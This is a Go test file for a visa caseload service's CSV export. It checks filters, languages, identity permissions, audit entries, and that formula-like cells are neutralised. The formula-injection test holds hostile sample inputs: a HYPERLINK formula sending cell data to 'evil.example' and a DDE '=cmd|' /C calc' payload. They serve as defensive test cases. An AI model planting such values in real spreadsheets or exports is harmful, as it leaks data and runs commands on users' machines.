package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"html"
	"net/http"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"visaclock/internal/caseload"
	"visaclock/internal/date"
	"visaclock/internal/i18n"
	"visaclock/internal/stay"
)

// readCSV parses an exported list, after checking how it was sent, and
// returns its header and its rows.
func readCSV(t *testing.T, body []byte) ([]string, [][]string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, body)
	}
	if len(recs) == 0 {
		t.Fatal("the export has no header row")
	}
	if !bytes.Contains(body, []byte("\r\n")) {
		t.Error("the export's lines do not end in CRLF (RFC 4180)")
	}
	return recs[0], recs[1:]
}

func csvResponse(t *testing.T, r *response) ([]string, [][]string) {
	t.Helper()
	r.want(t, http.StatusOK)
	if got := r.Header.Get("Content-Type"); got != "text/csv; charset=utf-8; header=present" {
		t.Errorf("Content-Type %q", got)
	}
	if got := r.Header.Get("Cache-Control"); got != "no-store" {
		t.Errorf("Cache-Control %q, want no-store", got)
	}
	if got := r.Header.Get("Content-Disposition"); got != `attachment; filename="cases-2026-06-20.csv"` {
		t.Errorf("Content-Disposition %q", got)
	}
	return readCSV(t, r.Body)
}

func refsOf(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r[0])
	}
	return out
}

// TestListCSV exports the seeded working list on both stores: the whole
// list in the list's order, with the list's filters, the next action in
// the reader's language, identities only for those who may reveal every
// one in their list, one audit entry per export, and no cell a spreadsheet
// would run as a formula.
func TestListCSV(t *testing.T) {
	doc := loadOpenAPI(t)
	eachBackend(t, func(t *testing.T, open opener) {
		e := newEnv(t, open, nil)
		ids := seedCaseload(t, e)

		r := e.do("GET", "/v1/cases.csv", nil)
		conform(t, doc, "GET", "/v1/cases.csv", r)
		head, rows := csvResponse(t, r)
		if want := []string{"reference", "state", "last_lawful_day", "next_deadline", "next_deadline_date", "next_action", "stale"}; !slices.Equal(head, want) {
			t.Errorf("header %v, want %v", head, want)
		}
		want := [][]string{
			{"FV-2026-009", "overstay", "2026-05-31", "", "", "", "false"},
			{"FV-2026-011", "pending", "2026-06-17", "receipt_expired", "2026-06-16", "Receipt ran out on 16 Jun 2026: go back to the office", "false"},
			{"SC-2026-031", "lawful", "2026-06-24", "must_leave_by", "2026-06-24", "Leave by 24 Jun 2026", "false"},
			{"FV-2026-016", "lawful", "2026-07-07", "extension_filing_closes", "2026-06-30", "File an extension by 30 Jun 2026", "false"},
			{"SC-2026-027", "lawful", "2026-07-02", "must_leave_by", "2026-07-02", "Leave by 2 Jul 2026", "false"},
			{"FV-2026-014", "lawful", "2026-07-19", "extension_filing_closes", "2026-07-12", "File an extension by 12 Jul 2026", "false"},
			{"SC-2026-040", "lawful", "2026-07-15", "must_leave_by", "2026-07-15", "Leave by 15 Jul 2026", "false"},
		}
		if !reflect.DeepEqual(rows, want) {
			t.Errorf("the export:\n%q\nwant\n%q", rows, want)
		}
		// The same cases, in the same order, as the list itself.
		var list struct {
			Items []struct {
				Reference string `json:"reference"`
			} `json:"items"`
		}
		if err := json.Unmarshal(e.do("GET", "/v1/cases?limit=500", nil).want(t, http.StatusOK).Body, &list); err != nil {
			t.Fatal(err)
		}
		var listed []string
		for _, it := range list.Items {
			listed = append(listed, it.Reference)
		}
		if !slices.Equal(listed, refsOf(rows)) {
			t.Errorf("the export lists %v, the working list %v", refsOf(rows), listed)
		}
		if strings.Contains(string(r.Body), "Ri Chol-su") || strings.Contains(string(r.Body), "R•••") {
			t.Error("the export without identities holds a name")
		}

		// The list's filters.
		for _, tc := range []struct {
			query string
			refs  []string
		}{
			{"?state=overstay", []string{"FV-2026-009"}},
			{"?due_within=7d", []string{"FV-2026-009", "FV-2026-011", "SC-2026-031"}},
			{"?due_within=14d&state=lawful&sort=urgency", []string{"SC-2026-031", "FV-2026-016", "SC-2026-027"}},
			{"?on=2026-07-03&state=overstay", []string{"FV-2026-009", "SC-2026-031", "SC-2026-027"}},
		} {
			_, got := readCSV(t, e.do("GET", "/v1/cases.csv"+tc.query, nil).want(t, http.StatusOK).Body)
			if !slices.Equal(refsOf(got), tc.refs) {
				t.Errorf("%s: %v, want %v", tc.query, refsOf(got), tc.refs)
			}
		}

		// The next action in the language asked for, or the reader's.
		_, zh := readCSV(t, e.do("GET", "/v1/cases.csv?state=lawful&lang=zh", nil).want(t, http.StatusOK).Body)
		_, ko := readCSV(t, e.do("GET", "/v1/cases.csv?state=lawful", nil, "Accept-Language", "ko-KR").want(t, http.StatusOK).Body)
		for _, tc := range []struct {
			rows [][]string
			want string
		}{{zh, "最迟于2026年7月12日（含当日）申请延期，建议尽早办理"}, {ko, "2026년 7월 12일까지 체류기간 연장 신청"}} {
			if i := slices.Index(refsOf(tc.rows), "FV-2026-014"); i < 0 || tc.rows[i][5] != tc.want {
				t.Errorf("the next action of FV-2026-014 in %v, want %q", tc.rows, tc.want)
			}
		}

		// With identities, by an admin: the people in clear, an empty
		// cell where there is none, and a BOM when asked.
		r = e.do("GET", "/v1/cases.csv?identities=1&bom=1", nil)
		if !bytes.HasPrefix(r.Body, []byte("\ufeff")) {
			t.Errorf("?bom=1: the export starts %q", r.Body[:min(8, len(r.Body))])
		}
		head, rows = csvResponse(t, &response{Status: r.Status, Header: r.Header, Body: bytes.TrimPrefix(r.Body, []byte("\ufeff")), req: r.req})
		if !slices.Equal(head[7:], []string{"name", "passport", "nationality", "birth_date", "contact"}) {
			t.Errorf("header with identities %v", head)
		}
		for _, row := range rows {
			switch row[0] {
			case "FV-2026-014":
				if !slices.Equal(row[7:], []string{"Ri Chol-su", "PX7734521", "PRK", "1958-09-09", ""}) {
					t.Errorf("FV-2026-014 with identities: %v", row)
				}
			case "SC-2026-027":
				if !slices.Equal(row[7:], []string{"", "", "", "", ""}) {
					t.Errorf("a case without an identity: %v", row)
				}
			}
		}

		// Each export, one audit entry with its count; no one's name.
		got := auditOf(t, e, "case.list_export")
		var details []string
		for _, x := range got {
			details = append(details, x.Detail)
			if x.Case != "" || x.Actor != e.Admin.User {
				t.Errorf("audit entry %+v", x)
			}
		}
		wantDetails := []string{"rows=7 identities=false", "rows=1 identities=false", "rows=3 identities=false", "rows=3 identities=false",
			"rows=3 identities=false", "rows=5 identities=false", "rows=5 identities=false", "rows=7 identities=true"}
		if !slices.Equal(details, wantDetails) {
			t.Errorf("the audit log's exports: %q\nwant %q", details, wantDetails)
		}

		// Who may have identities: a caseworker for their team's list; not
		// a viewer, nor a token without identity.reveal.
		ctx := context.Background()
		cw, err := e.Server.Service.CreateUser(ctx, e.Admin, caseload.UserInput{Username: "worker", Password: testPassword, Role: caseload.RoleCaseworker, Team: "north"})
		if err != nil {
			t.Fatal(err)
		}
		cwp := caseload.Principal{User: cw.ID, Org: cw.Org, Role: cw.Role, Team: cw.Team}
		e.do("POST", "/v1/cases", withIdentity(map[string]any{"reference": "N-1", "team": "north", "history": schengenEnding("2026-07-01")},
			map[string]any{"name": "Pak Chol"})).want(t, http.StatusCreated)
		_, cwRows := readCSV(t, e.do("GET", "/v1/cases.csv?identities=1", nil, "Authorization", "Bearer "+e.tokenFor(cwp, caseload.Permissions...)).want(t, http.StatusOK).Body)
		if len(cwRows) != 1 || cwRows[0][0] != "N-1" || cwRows[0][7] != "Pak Chol" {
			t.Errorf("the caseworker's export: %v", cwRows)
		}
		_, vtoken := newViewer(t, e, "reader")
		before := len(auditOf(t, e, "case.list_export"))
		p := e.do("GET", "/v1/cases.csv?identities=1", nil, "Authorization", "Bearer "+vtoken)
		conform(t, doc, "GET", "/v1/cases.csv", p)
		p.problem(t, http.StatusForbidden).field(t, "identities")
		listOnly := e.tokenFor(e.Admin, caseload.PermCaseList)
		e.do("GET", "/v1/cases.csv?identities=true", nil, "Authorization", "Bearer "+listOnly).problem(t, http.StatusForbidden)
		if n := len(auditOf(t, e, "case.list_export")) - before; n != 0 {
			t.Errorf("%d refused exports were audited", n)
		}
		_, vrows := readCSV(t, e.do("GET", "/v1/cases.csv", nil, "Authorization", "Bearer "+vtoken).want(t, http.StatusOK).Body)
		if len(vrows) != 0 {
			t.Errorf("a viewer with no case assigned exports %v", vrows)
		}
		noList := e.tokenFor(e.Admin, caseload.PermCaseRead)
		e.do("GET", "/v1/cases.csv", nil, "Authorization", "Bearer "+noList).problem(t, http.StatusForbidden)

		// Bad parameters, by name.
		for q, field := range map[string]string{"?limit=5": "limit", "?cursor=x": "cursor", "?identities=yes": "identities", "?bom=2": "bom",
			"?lang=fr": "lang", "?state=gone": "state", "?due_within=2w": "due_within", "?on=2026-06-19": "on", "?sort=name": "sort", "?passport=PX7734521": "passport"} {
			p := e.do("GET", "/v1/cases.csv"+q, nil)
			conform(t, doc, "GET", "/v1/cases.csv", p)
			p.problem(t, http.StatusUnprocessableEntity).field(t, field)
		}

		// The dashboard links to the list it shows, which a session may
		// download.
		b := newBrowser(t, e)
		b.login("admin", testPassword)
		dash := b.get("/?within=7&state=overstay&state=pending").want(t, http.StatusOK).complete(t)
		links := regexp.MustCompile(`href="(/v1/cases\.csv\?[^"]+)"`).FindAllStringSubmatch(dash.Body, -1)
		if len(links) != 2 {
			t.Fatalf("the dashboard has %d CSV links, want 2 (without and with identities)", len(links))
		}
		dl := b.get(html.UnescapeString(links[0][1]))
		if dl.Status != http.StatusOK || !strings.HasPrefix(dl.Body, "\ufeffreference,state,") {
			t.Fatalf("the dashboard's CSV link %s: %d %.80q", links[0][1], dl.Status, dl.Body)
		}
		_, drows := readCSV(t, []byte(strings.TrimPrefix(dl.Body, "\ufeff")))
		if !slices.Equal(refsOf(drows), []string{"FV-2026-009", "FV-2026-011"}) {
			t.Errorf("the dashboard's export %v, want the overstay and the pending case", refsOf(drows))
		}
		if dl = b.get(html.UnescapeString(links[1][1])); dl.Status != http.StatusOK || !strings.Contains(dl.Body, "Kim Yong-ho") {
			t.Errorf("the dashboard's export with identities: %d\n%s", dl.Status, dl.Body)
		}
		vb := newBrowser(t, e)
		vb.login("reader", testPassword)
		if vd := vb.get("/").want(t, http.StatusOK); strings.Count(vd.Body, "/v1/cases.csv") != 1 {
			t.Error("a viewer's dashboard offers an export with identities, or none at all")
		}
		_ = ids
	})
}

// TestListCSVNeutralisesFormulas: references and names that a spreadsheet
// would run as formulas are exported as text, on both stores.
func TestListCSVNeutralisesFormulas(t *testing.T) {
	eachBackend(t, func(t *testing.T, open opener) {
		e := newEnv(t, open, nil)
		bad := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB"}
		for i, ref := range bad {
			e.do("POST", "/v1/cases", withIdentity(caseBody(ref, "", schengenEnding(date.MustParse(startDay).AddDays(10+i).String())),
				map[string]any{"name": "=cmd|' /C calc'!A0", "contact": "@evil"})).want(t, http.StatusCreated)
		}
		e.create(t, "safe 'quoted'", "", schengenEnding(date.MustParse(startDay).AddDays(20).String()))
		_, rows := readCSV(t, e.do("GET", "/v1/cases.csv?identities=1", nil).want(t, http.StatusOK).Body)
		if len(rows) != len(bad)+1 {
			t.Fatalf("%d rows, want %d", len(rows), len(bad)+1)
		}
		for i, row := range rows[:len(bad)] {
			if want := "'" + bad[i]; row[0] != want {
				t.Errorf("reference exported as %q, want %q", row[0], want)
			}
			if row[7] != "'=cmd|' /C calc'!A0" || row[11] != "'@evil" {
				t.Errorf("identity exported as %q, %q", row[7], row[11])
			}
		}
		if last := rows[len(bad)]; last[0] != "safe 'quoted'" {
			t.Errorf("a harmless reference exported as %q", last[0])
		}
	})
}

// FuzzListCSV: whatever a reference or a name holds, the export reads back
// as CSV with one row of the right width, each cell the text as written or
// with one apostrophe before it, and no cell starts as a formula.
func FuzzListCSV(f *testing.F) {
	for _, s := range []string{"FV-1", "=1+1", "+", "-", "@", "\t", "\r", "\r\n=x", "a,b\"c", "'=x", "가족", "\xff"} {
		f.Add(s, s)
	}
	cat, err := i18n.Load()
	if err != nil {
		f.Fatal(err)
	}
	p := cat.Printer(i18n.English)
	f.Fuzz(func(t *testing.T, ref, name string) {
		rows := []caseload.ListRow{{ListItem: caseload.ListItem{Reference: ref, State: stay.StateLawful, AuthorizedUntil: date.MustParse("2026-07-01"),
			Deadline: date.MustParse("2026-07-01"), DeadlineKind: stay.MustLeaveBy}, Identity: &caseload.Identity{Name: name}}}
		var buf bytes.Buffer
		if err := writeListCSV(&buf, p, rows, true); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("the export does not read back: %v\n%q", err, buf.String())
		}
		if len(recs) != 2 || len(recs[1]) != 12 {
			t.Fatalf("%d records (%v), want a header and one row of 12 cells", len(recs), recs)
		}
		// encoding/csv writes a line break in a cell as CRLF (UseCRLF),
		// drops a lone CR, and reads CRLF back as LF: compare without CRs.
		norm := func(s string) string { return strings.ReplaceAll(s, "\r", "") }
		for _, c := range []struct{ got, in string }{{recs[1][0], ref}, {recs[1][7], name}} {
			if norm(c.got) != norm(c.in) && norm(c.got) != norm("'"+c.in) {
				t.Errorf("%q exported as %q", c.in, c.got)
			}
		}
		for _, cell := range recs[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts as a formula", cell)
			}
		}
	})
}
